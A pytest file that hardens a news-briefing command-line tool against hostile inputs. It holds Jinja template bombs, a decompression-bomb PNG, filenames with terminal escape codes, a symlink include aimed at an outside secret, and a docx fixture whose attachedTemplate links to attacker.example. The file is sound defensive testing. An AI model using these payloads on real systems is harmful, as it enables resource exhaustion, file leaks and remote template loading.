"""The hostile world, round two: inputs an attacker or an unlucky user gives, each answered with a
bounded amount of work and a one-line error, never a traceback. Real files, real processes, the real
model; the full disk and the read-only folder are real mounts when the tests may mount (root).
"""

from __future__ import annotations

import json
import os
import shutil
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner

from briefing.cli import cli
from briefing.nlp import parse
from briefing.nlp_bounds import MAX_SENTENCE_TOKENS

BRIEFING = [sys.executable, "-m", "briefing"]
PUBLISHED = ["--published", "2026-11-18"]


def run(args: list[str], cwd: Path, env: dict[str, str] | None = None, timeout: float = 120) -> tuple[int, str]:
    """`briefing ARGS` as a user runs it: the exit status and stderr, checked for one-line errors."""
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("BRIEFING_")} | (env or {})
    full_env.setdefault("BRIEFING_CONFIG", str(cwd / "no-config.toml"))
    done = subprocess.run([*BRIEFING, *args], cwd=cwd, env=full_env, capture_output=True, text=True, timeout=timeout)
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, done.stderr


def invoke(args: list[str], env: dict[str, str] | None = None) -> tuple[int, str, str]:
    """The same in this process (the model loads once): status, stdout, stderr; no exception escapes."""
    result = CliRunner().invoke(cli, args, env=env)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.stderr
    return result.exit_code, result.stdout, result.stderr


def one_line(stderr: str) -> str:
    lines = stderr.strip().splitlines()
    assert len(lines) == 1, stderr
    return lines[0]


# --- degenerate text: bounded work, exact offsets --------------------------------------------------

LEAD = "Estmark and Wendria will resume talks in Geneva on Monday, the foreign ministry said.\n\n"
DEGENERATE = {
    "nested brackets 40 KB": LEAD + "(" * 20_000 + ")" * 20_000 + "\n",
    "quote run 200 KB": LEAD + '"' * 200_000 + "\n",
    "300,000-character word": LEAD + "a" * 300_000 + "\n",
    "100,000 one-character lines": LEAD + "a\n" * 100_000,
    "mixed brackets": LEAD + "([{<" * 5_000 + ">}])" * 5_000 + "\n",
}


@pytest.mark.parametrize("name", list(DEGENERATE))
def test_degenerate_text_is_briefed_with_exact_offsets(tmp_path: Path, name: str) -> None:
    path = tmp_path / "article.txt"
    path.write_text(DEGENERATE[name], encoding="utf-8")
    # Not a speed test (bench.py --degenerate measures that); before the fix these took minutes, and
    # the next test checks the mechanism that bounds them.
    status, out, _ = invoke(["generate", str(path), "-f", "json", "-o", "-", *PUBLISHED])
    assert status == 0
    brief = json.loads(out)
    text = DEGENERATE[name].rstrip("\n")
    quotes = [e for side in brief["sides"] for item in side["positions"] for e in item["evidence"]]
    for evidence in quotes:
        assert evidence["quote"] in text


@pytest.mark.parametrize("name", list(DEGENERATE))
def test_degenerate_text_keeps_the_text_and_bounds_sentences(name: str) -> None:
    text = DEGENERATE[name]
    doc = parse(text)
    assert doc.text == text
    assert "".join(t.text_with_ws for t in doc) == text
    assert max(len(s) for s in doc.sents) <= MAX_SENTENCE_TOKENS + 1
    assert len(doc) < len(text) / 4  # a token covers several characters: no token per bracket


def test_prose_is_tokenized_as_spacy_does() -> None:
    from briefing.nlp import load_model

    text = LEAD + 'Talks (which began in May) stalled; "no deal", he said -- https://example.org/a?b=c.'
    nlp = load_model()
    assert [t.text for t in nlp.tokenizer(text)] == [t.text for t in nlp.tokenizer.inner(text)]


# --- templates copy ------------------------------------------------------------------------------


def test_templates_copy_refuses_an_existing_file_and_a_link(tmp_path: Path) -> None:
    status, err = run(["templates", "copy", "brief", "t"], tmp_path)
    assert status == 0
    status, err = run(["templates", "copy", "brief", "t"], tmp_path)
    assert status == 1 and "already exists; use --force" in one_line(err)
    (tmp_path / "t" / "brief.md.j2").write_text("mine", encoding="utf-8")
    status, err = run(["templates", "copy", "brief", "t", "--force"], tmp_path)
    assert status == 0 and (tmp_path / "t" / "brief.md.j2").read_text(encoding="utf-8").startswith("{#")
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "brief.md.j2").symlink_to(tmp_path / "outside.md.j2")  # dangling
    for extra in ([], ["--force"]):
        status, err = run(["templates", "copy", "brief", "d", *extra], tmp_path)
        assert status == 1 and "is a link" in one_line(err)
    assert not (tmp_path / "outside.md.j2").exists()


@pytest.mark.parametrize("where", ["/proc/briefing-test", "a-file/sub"])
def test_templates_copy_into_an_impossible_folder_is_one_line(tmp_path: Path, where: str) -> None:
    (tmp_path / "a-file").write_text("x", encoding="utf-8")
    status, err = run(["templates", "copy", "brief", where], tmp_path)
    assert status == 1
    assert one_line(err).startswith("Error: ")


@pytest.fixture()
def small_mount(tmp_path: Path) -> Iterator[Path]:
    """A 16 KB tmpfs filled to the last byte: a real full disk."""
    mount = tmp_path / "full"
    mount.mkdir()
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting a small file system needs root")
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16k", "tmpfs", str(mount)], check=False).returncode:
        pytest.skip("cannot mount a tmpfs here")
    try:
        fd = os.open(mount / "filler", os.O_WRONLY | os.O_CREAT)
        try:
            while os.write(fd, b"\0" * 4096):
                pass
        except OSError:
            pass  # full: what the test needs
        finally:
            os.close(fd)
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def test_templates_copy_onto_a_full_disk_leaves_nothing(tmp_path: Path, small_mount: Path) -> None:
    status, err = run(["templates", "copy", "brief", str(small_mount)], tmp_path)
    assert status == 1
    assert "No space left on device" in one_line(err)
    assert sorted(p.name for p in small_mount.iterdir()) == ["filler"]  # no 0-byte template, no .part


def test_an_empty_template_is_an_error(tmp_path: Path, article_file: Path) -> None:
    (tmp_path / "empty.md.j2").write_text("", encoding="utf-8")
    status, _, err = invoke(
        ["generate", str(article_file), "-f", "md", "-o", "-", "--template", str(tmp_path / "empty.md.j2"), *PUBLISHED]
    )
    assert status == 1 and "produced an empty brief" in one_line(err)


# --- user-supplied files: regular, bounded ------------------------------------------------------


def _config_cases(tmp: Path) -> dict[str, str]:
    os.mkfifo(tmp / "fifo.toml")
    (tmp / "big.toml").write_bytes(b"#" * 2_000_000)
    (tmp / "deep.toml").write_text("a = " + "[" * 100_000, encoding="utf-8")
    (tmp / "dangling.toml").symlink_to(tmp / "nowhere.toml")
    return {
        "/dev/zero": "/dev/zero",
        "FIFO": str(tmp / "fifo.toml"),
        "2 MB": str(tmp / "big.toml"),
        "nested": str(tmp / "deep.toml"),
        "folder": str(tmp),
        "dangling link": str(tmp / "dangling.toml"),
    }


@pytest.mark.parametrize("case", ["/dev/zero", "FIFO", "2 MB", "nested", "folder", "dangling link"])
def test_a_config_file_that_is_no_config_file_is_one_line(tmp_path: Path, case: str) -> None:
    path = _config_cases(tmp_path)[case]
    status, err = run(["config", "show"], tmp_path, env={"BRIEFING_CONFIG": path}, timeout=60)  # never hangs
    assert status == 1
    assert "config file" in one_line(err) or "invalid TOML" in one_line(err)


def write_png(path: Path, width: int, height: int) -> None:
    """A valid grey PNG of any size; huge ones compress to almost nothing."""
    packer = zlib.compressobj(9)
    row = b"\x00" * (width + 1)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b""))


@pytest.mark.parametrize("fmt", ["pdf", "docx"])
def test_a_huge_logo_is_refused_before_it_is_decoded(tmp_path: Path, article_file: Path, fmt: str) -> None:
    write_png(tmp_path / "huge.png", 13_000, 13_000)
    (tmp_path / "theme.toml").write_text('logo = "huge.png"\n', encoding="utf-8")
    status, _, err = invoke(
        [
            "generate",
            str(article_file),
            "-f",
            fmt,
            "-o",
            str(tmp_path / "out"),
            "--theme",
            str(tmp_path / "theme.toml"),
            *PUBLISHED,
        ]
    )
    assert status == 1
    assert "13000 x 13000 pixels" in one_line(err)
    assert not (tmp_path / "out").exists()


def test_a_logo_that_is_no_image_names_the_file(tmp_path: Path, article_file: Path) -> None:
    (tmp_path / "logo.png").write_bytes(b"not an image" * 10)
    (tmp_path / "theme.toml").write_text('logo = "logo.png"\n', encoding="utf-8")
    status, _, err = invoke(
        [
            "generate",
            str(article_file),
            "-f",
            "pdf",
            "-o",
            str(tmp_path / "x.pdf"),
            "--theme",
            str(tmp_path / "theme.toml"),
            *PUBLISHED,
        ]
    )
    line = one_line(err)
    assert status == 1 and "logo.png is not a PNG, JPEG or GIF image" in line and "BytesIO" not in line


BOMBS = {
    "repeat": "{{ 'a' * 10**10 }}",
    "list": "{{ ([0] * 10**9) | length }}",
    "power": "{{ 10 ** (10 ** 10) }}",
    "center": "{{ 'x' | center(10**9) }}",
    "format": "{{ '%999999999s' | format('x') }}",
    "method": "{{ 'x'.ljust(10**9) }}",
    "str format": "{{ '{:>9999999999}'.format(1) }}",
    "doubling": "{% set ns = namespace(s='ab') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}"
    "{{ ns.s }}",
    "output": "{% for i in range(100000) %}{{ 'x' * 1000 }}{% endfor %}",
}


@pytest.mark.parametrize("name", list(BOMBS))
def test_a_template_cannot_build_a_huge_text(tmp_path: Path, article_file: Path, name: str) -> None:
    template = tmp_path / "bomb.md.j2"
    template.write_text(BOMBS[name] + "\n", encoding="utf-8")
    status, _, err = invoke(
        ["generate", str(article_file), "-f", "md", "-o", "-", "--template", str(template), *PUBLISHED]
    )
    assert status == 1
    line = one_line(err)
    assert "bomb.md.j2" in line and ("limit" in line or "bits" in line)


def test_an_include_cannot_follow_a_link_out_of_the_templates_folder(tmp_path: Path, article_file: Path) -> None:
    (tmp_path / "secret.txt").write_text("OUTSIDE SECRET\n", encoding="utf-8")
    folder = tmp_path / "tpl"
    folder.mkdir()
    (folder / "leak.md.j2").symlink_to(tmp_path / "secret.txt")
    (folder / "main.md.j2").write_text("# T\n{% include 'leak.md.j2' %}\n", encoding="utf-8")
    status, out, err = invoke(
        ["generate", str(article_file), "-f", "md", "-o", "-", "--template", str(folder / "main.md.j2"), *PUBLISHED]
    )
    assert status == 1 and "leads out of the folder" in one_line(err)
    assert "OUTSIDE SECRET" not in out


def test_a_template_that_is_a_fifo_or_too_big_is_refused(tmp_path: Path, article_file: Path) -> None:
    os.mkfifo(tmp_path / "fifo.md.j2")
    (tmp_path / "big.md.j2").write_text("# x\n" + "{# pad #}" * 200_000, encoding="utf-8")
    for name, words in (("fifo.md.j2", "not a regular file"), ("big.md.j2", "larger than")):
        status, _, err = invoke(
            ["generate", str(article_file), "-f", "md", "-o", "-", "--template", str(tmp_path / name), *PUBLISHED]
        )
        assert status == 1 and words in one_line(err)


def _reference_with_attached_template(path: Path) -> None:
    plain = path.with_name("plain.docx")
    docx.Document().save(str(plain))
    rel_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "word/settings.xml":
                head_end = data.index(b">", data.index(b"<w:settings")) + 1
                data = data[:head_end] + b'<w:attachedTemplate r:id="rIdT1"/>' + data[head_end:]
                if b"xmlns:r=" not in data[:head_end]:
                    data = data.replace(b"<w:settings ", f'<w:settings xmlns:r="{rel_ns}" '.encode(), 1)
            dst.writestr(info, data)
        dst.writestr(
            "word/_rels/settings.xml.rels",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rIdT1" Type="{rel_ns}/attachedTemplate" '
            'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
        )


def test_a_reference_docx_loses_its_external_links_with_a_warning(tmp_path: Path, article_file: Path) -> None:
    reference = tmp_path / "house.docx"
    _reference_with_attached_template(reference)
    out = tmp_path / "brief.docx"
    status, _, err = invoke(
        ["generate", str(article_file), "-f", "docx", "-o", str(out), "--reference-docx", str(reference), *PUBLISHED]
    )
    assert status == 0
    assert "external link(s) dropped (attachedTemplate)" in one_line(err)
    with zipfile.ZipFile(out) as z:
        assert not [n for n in z.namelist() if b"attacker.example" in z.read(n)]
        assert b"attachedTemplate" not in z.read("word/settings.xml")
    assert docx.Document(str(out)).paragraphs  # still a Word document


# --- names from input files ----------------------------------------------------------------------


def test_batch_output_names_are_clean_short_unique_and_printed_one_a_line(tmp_path: Path, article_text: str) -> None:
    inbox = tmp_path / "in"
    inbox.mkdir()
    names = ["evil\nname.txt", "esc\x1b]0;pwned\x07\x1b[31m.txt", "L" * 250 + ".txt", "L" * 250 + "x.txt", "plain.txt"]
    for name in names:
        (inbox / name).write_text(article_text, encoding="utf-8")
    done = subprocess.run(
        [*BRIEFING, "generate", str(inbox), "-f", "md", "-o", str(tmp_path / "out"), "--jobs", "1", *PUBLISHED],
        capture_output=True,
        text=True,
        timeout=600,
        env={k: v for k, v in os.environ.items() if not k.startswith("BRIEFING_")},
    )
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and "\x1b" not in done.stderr + done.stdout
    written = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert len(written) == len(names)
    for name in written:
        assert name.isprintable() and len(name.encode()) <= 160
    assert "evilname.md" in written and "esc]0;pwned[31m.md" in written and "plain.md" in written
    assert len([n for n in written if n.startswith("L" * 100)]) == 2  # both long names, told apart
    paths = done.stdout.splitlines()
    assert sorted(Path(p).name for p in paths) == written


def test_names_from_files_reach_the_terminal_escaped(tmp_path: Path) -> None:
    evil = tmp_path / "bad\x1b[2Jname.txt"
    evil.write_text("", encoding="utf-8")
    status, err = run(["generate", str(evil), "-f", "md", "-o", "-"], tmp_path)
    assert status == 1
    assert "\x1b" not in err and "bad\\x1b[2Jname.txt" in one_line(err)


# --- shaped scripts copy out of the PDF as written -------------------------------------------------

DEVANAGARI = "शांति वार्ता क्षत्रिय ज़मीन क़ानून फ़ैसला कि की कु के को कृ श्री द्ध प्र र्क ज्ञ"


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="needs pdftotext (poppler-utils)")
def test_devanagari_copies_out_of_the_pdf_as_written(tmp_path: Path, article_file: Path) -> None:
    """Conjuncts (क्ष, त्र, ज्ञ), vowel signs drawn before their consonant (ि) or above it (ं),
    a reph drawn last (र्क), and nukta (ज़, क़, फ़) in the title: `pdftotext` gives back every
    character as written, none doubled, none split off."""
    out = tmp_path / "brief.pdf"
    status, _, err = invoke(
        ["generate", str(article_file), "-f", "pdf", "-o", str(out), "--title", DEVANAGARI, *PUBLISHED]
    )
    assert status == 0, err
    text = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True, check=True).stdout
    title = " ".join(" ".join(text.split("\n")[:3]).split())
    assert DEVANAGARI in title, title


# --- the small ones ------------------------------------------------------------------------------


def test_a_bad_byte_with_stdout_output_is_a_one_line_warning(tmp_path: Path) -> None:
    path = tmp_path / "bad.txt"
    data = (Path(__file__).parent.parent / "samples" / "port-strike-talks.txt").read_bytes()  # UTF-8 dashes
    path.write_bytes(data[:200] + b"\xff\xfe" + data[200:])
    status, err = run(["generate", str(path), "-f", "json", "-o", "-", *PUBLISHED], tmp_path)
    assert status == 0
    assert one_line(err) == f"warning: {path}: 2 byte(s) are not valid UTF-8 and show as \ufffd"


def test_source_date_epoch_out_of_range_says_so(tmp_path: Path, article_file: Path) -> None:
    status, _, err = invoke(
        ["generate", str(article_file), "-f", "pdf", "-o", str(tmp_path / "x.pdf"), *PUBLISHED],
        env={"SOURCE_DATE_EPOCH": "99999999999999999999"},
    )
    assert status == 1 and "out of range" in one_line(err)


def test_eml_with_dry_run_is_a_usage_error(tmp_path: Path) -> None:
    (tmp_path / "x.md").write_text("# x\n", encoding="utf-8")
    status, err = run(["send", "x.md", "--to", "a@example.org", "--eml", "d.eml", "--dry-run"], tmp_path)
    assert status == 2 and "do not go together" in one_line(err)


def test_send_of_a_device_gives_no_saved_briefs_hint(tmp_path: Path) -> None:
    status, err = run(["send", "/dev/zero", "--to", "a@example.org", "--dry-run"], tmp_path)
    line = one_line(err)
    assert status == 1 and "not a regular file" in line and "saved in" not in line


def test_a_stale_part_left_at_the_rename_is_removed(tmp_path: Path, article_file: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "brief.md").write_text("done", encoding="utf-8")
    stale = out / ".brief.md.abcd1234.part"
    stale.write_text("done", encoding="utf-8")
    os.utime(stale, (time.time() - 3600,) * 2)
    status, _, _ = invoke(["generate", str(article_file), "-f", "md", "-o", str(out / "brief.md"), *PUBLISHED])
    assert status == 1  # the brief exists and --force was not given
    assert not stale.exists()


def test_markdown_full_of_symbols_is_kept_as_text(tmp_path: Path) -> None:
    """Unclosed emphasis and nested link brackets: the inline-markup patterns are bounded, and a
    line with more marks than any marked-up prose keeps them as text."""
    from briefing.ingest import MAX_MARKUP_MARKS, article_from_bytes

    stars = "*a " * 30_000
    brackets = "[" * 20_000 + "x" + "]" * 20_000
    source = f"# Talks\n\n{LEAD}**Bold** and *it* and [a link](https://example.org).\n\n{stars}\n\n{brackets}\n"
    article = article_from_bytes(source.encode("utf-8"), kind="markdown")
    assert "Bold and it and a link." in article.text
    assert stars.strip() in article.text and brackets in article.text
    assert stars.count("*") > MAX_MARKUP_MARKS
